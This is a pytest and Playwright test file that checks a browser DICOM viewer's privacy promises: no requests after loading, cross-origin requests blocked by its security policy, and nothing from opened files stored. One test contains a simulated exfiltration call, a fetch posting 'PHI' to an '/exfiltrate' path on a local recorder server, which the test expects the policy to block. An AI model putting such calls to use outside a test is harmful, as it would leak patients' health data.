"""The promise, tested: nothing leaves the tab, nothing persists, and the page says so."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from tests.browser.conftest import attach_logging, open_files
from tests.conftest import bundled
from tests.core.deid.phi_set import write_set
from tests.deid_runs import KEY_TEXT

#: Several kinds of object, so "opening and inspecting" exercises more than one path.
FILES = ["CT_small.dcm", "MR_small.dcm", "rtplan.dcm", "test-SR.dcm", "JPEG2000.dcm", "ExplVR_BigEnd.dcm"]


@pytest.fixture
def other_origin() -> Iterator[tuple[str, list[str]]]:
    """Another origin (same machine, another port) that records every hit it gets."""
    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"leaked")

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


def test_no_request_leaves_the_origin_and_none_at_all_after_loading(
    context: BrowserContext, site_url: str, page_errors: list
) -> None:
    requests: list[Request] = []
    failures: list[str] = []
    context.on("request", lambda r: requests.append(r))
    context.on("response", lambda r: r.status >= 400 and failures.append(f"{r.status} {r.url}"))
    page = context.new_page()
    attach_logging(page, page_errors)
    page.goto(site_url)
    page.evaluate("Promise.all([window.dicomtab.ready, window.dicomtab.offline, window.dicomtab.pixelsReady])")
    expect(page.get_by_test_id("privacy-status")).to_contain_text("0 network requests since the app loaded")
    loaded = len(requests)
    assert loaded > 5  # the recording sees the app's own loading (page, worker, runtime)
    assert any("/pyodide/pyodide.asm.wasm" in r.url for r in requests)  # worker requests too

    open_files(page, [bundled(n) for n in FILES], expect_total=len(FILES))
    page.get_by_test_id("instance").first.scroll_into_view_if_needed()
    assert page.evaluate("window.dicomtab.instances().length") == len(FILES)

    origin = urlsplit(site_url).netloc
    assert [r.url for r in requests if urlsplit(r.url).netloc != origin] == []
    assert [r.url for r in requests[loaded:]] == []
    assert failures == []  # favicon and every other asset are served: no 404 noise
    expect(page.get_by_test_id("privacy-status")).to_contain_text("0 network requests since the app loaded")
    assert page.evaluate("window.dicomtab.network()")["sinceLoaded"] == 0


def test_status_line_counts_real_requests(app: Page) -> None:
    app.evaluate("Promise.all([window.dicomtab.offline, window.dicomtab.pixelsReady])")
    status = app.get_by_test_id("privacy-status")
    expect(status).to_contain_text("— 0 network requests since the app loaded")
    app.evaluate("fetch('favicon.png?probe=1').then(r => r.arrayBuffer())")
    expect(status).to_contain_text("— 1 network request since the app loaded")
    app.evaluate("fetch('favicon.png?probe=2').then(r => r.arrayBuffer())")
    expect(status).to_contain_text("— 2 network requests since the app loaded")
    # Only the exact URL of one of the build's own files is named apart; with a query string
    # (above) a request counts like any other.
    app.evaluate("fetch('favicon.png', {cache: 'no-store'}).then(r => r.arrayBuffer())")
    expect(status).to_contain_text(
        "— 2 network requests since the app loaded, apart from 1 of its own files loaded on first use")


def test_csp_blocks_requests_to_another_origin(
    app: Page, other_origin: tuple[str, list[str]]
) -> None:
    url, hits = other_origin
    outcome = app.evaluate(
        """async (url) => {
            const violations = [];
            document.addEventListener('securitypolicyviolation',
                (e) => violations.push({blocked: e.blockedURI, directive: e.effectiveDirective}));
            let fetchError = null;
            try { await fetch(url + '/exfiltrate', {method: 'POST', body: 'PHI'}); }
            catch (error) { fetchError = error.name; }
            const img = new Image();
            const imageBlocked = new Promise((resolve) => { img.onerror = () => resolve(true); img.onload = () => resolve(false); });
            img.src = url + '/pixel.png';
            const imgResult = await imageBlocked;
            await new Promise((r) => setTimeout(r, 100));
            return {fetchError, imgResult, violations};
        }""",
        url,
    )
    assert outcome["fetchError"] == "TypeError"
    assert outcome["imgResult"] is True
    directives = {(v["blocked"].split("/exfil")[0].split("/pixel")[0], v["directive"]) for v in outcome["violations"]}
    assert directives == {(url, "connect-src"), (url, "img-src")}
    assert hits == []  # nothing reached the other origin
    csp = app.evaluate("document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    assert "connect-src 'self'" in csp
    # The status line says what happened: two requests refused, none sent. (The browser keeps
    # a zero-byte record of the refused image, which used to read as a request to another
    # site.)
    status = app.get_by_test_id("privacy-status")
    expect(status).to_contain_text(
        "2 requests to another site blocked by the page's security policy (not sent)")
    expect(status).not_to_contain_text("went to another site")
    expect(status).not_to_have_class("warning")
    counts = app.evaluate("window.dicomtab.network()")
    assert (counts["crossOrigin"], counts["blocked"]) == (0, 2), counts



def test_every_response_carries_the_policy(context: BrowserContext, site_url: str) -> None:
    responses = []
    context.on("response", lambda r: responses.append(r))
    page = context.new_page()
    page.goto(site_url)
    page.evaluate("window.dicomtab.ready")
    checked = [r for r in responses if r.url.endswith(("/", ".js", ".mjs", ".wasm"))]
    assert len(checked) >= 5
    for response in checked:
        policy = response.headers.get("content-security-policy", "")
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, response.url


def test_nothing_from_a_file_is_stored(app: Page) -> None:
    app.evaluate("window.dicomtab.offline")
    open_files(app, [bundled("CT_small.dcm")], expect_total=1)
    stored = app.evaluate(
        """async () => {
            const cached = [];
            for (const name of await caches.keys()) {
                const cache = await caches.open(name);
                for (const request of await cache.keys()) cached.push(new URL(request.url).pathname);
            }
            return {
                local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
                databases: (await indexedDB.databases()).length, cacheNames: await caches.keys(), cached,
            };
        }"""
    )
    assert (stored["local"], stored["session"], stored["cookie"], stored["databases"]) == (0, 0, "", 0)
    assert len(stored["cacheNames"]) == 1 and stored["cacheNames"][0].startswith("dicomtab-")
    # Only the app's own files, as listed at build time: nothing named after or made from a file.
    assert all(p == "/" or p.startswith(("/app/", "/pyodide/", "/codecs/", "/pdfjs/", "/zip/", "/ocr/", "/index.html", "/favicon.png")) for p in stored["cached"])
    assert not [p for p in stored["cached"] if "CT_small" in p or p.endswith(".dcm")]


def test_the_deidentify_workflow_sends_nothing_and_stores_nothing(
    context: BrowserContext, site_url: str, page_errors: list, tmp_path: Path
) -> None:
    """Open, preview, de-identify to a ZIP, verify and re-open the output: no request to
    another origin, none after loading but the app's own ZIP writer and reader, and nothing
    stored."""
    requests: list[Request] = []
    context.on("request", lambda r: requests.append(r))
    page = context.new_page()
    attach_logging(page, page_errors)
    page.goto(site_url)
    page.evaluate("Promise.all([window.dicomtab.ready, window.dicomtab.offline, window.dicomtab.pixelsReady])")
    loaded = len(requests)
    files = sorted(write_set(tmp_path / "study").values())
    open_files(page, files, expect_total=len(files))

    page.get_by_test_id("deid-open").click()
    page.get_by_test_id("deid-key-file").set_input_files(
        files=[{"name": "site.key", "mimeType": "text/plain", "buffer": KEY_TEXT.encode()}])
    page.get_by_test_id("deid-preview").click()
    expect(page.get_by_test_id("deid-preview-row").first).to_be_visible()
    with page.expect_download(timeout=120000):
        page.get_by_test_id("deid-run").click()
    page.get_by_test_id("deid-reopen").click()
    expect(page.get_by_test_id("instance")).to_have_count(2 * len(files), timeout=60000)
    page.get_by_test_id("verify-open").click()
    page.get_by_test_id("verify-run").click()
    expect(page.get_by_test_id("verify-result")).to_have_attribute("data-result", "not passed")  # the ultrasound

    origin = urlsplit(site_url).netloc
    assert [r.url for r in requests if urlsplit(r.url).netloc != origin] == []
    # The app's own ZIP writer, ZIP reader (the output re-opened) and free-text vocabulary,
    # each on first use, and nothing else.
    later = {urlsplit(r.url).path for r in requests[loaded:]}
    assert {p for p in later if not re.fullmatch(r"/pyodide/text_vocabulary-[0-9a-f]{16}\.txt\.gz", p)} \
        <= {"/zip/client-zip.js", "/zip/zip-core-external.min.js"}
    counts = page.evaluate("window.dicomtab.network()")
    assert counts["sinceLoaded"] == counts["ownFilesSinceLoaded"] <= 3
    expect(page.get_by_test_id("privacy-status")).to_contain_text("0 network requests since the app loaded")
    stored = page.evaluate(
        """async () => {
            const opfs = [];
            for await (const name of (await navigator.storage.getDirectory()).keys()) opfs.push(name);
            const cached = [];
            for (const name of await caches.keys()) {
                for (const request of await (await caches.open(name)).keys()) cached.push(new URL(request.url).pathname);
            }
            return {local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
                    databases: (await indexedDB.databases()).length, opfs, cached};
        }"""
    )
    assert (stored["local"], stored["session"], stored["cookie"], stored["databases"], stored["opfs"]) == (
        0, 0, "", 0, [])
    assert not [p for p in stored["cached"] if p.endswith((".dcm", ".zip", ".key", ".csv", ".json")) and
                not p.startswith(("/pyodide/", "/app/"))]
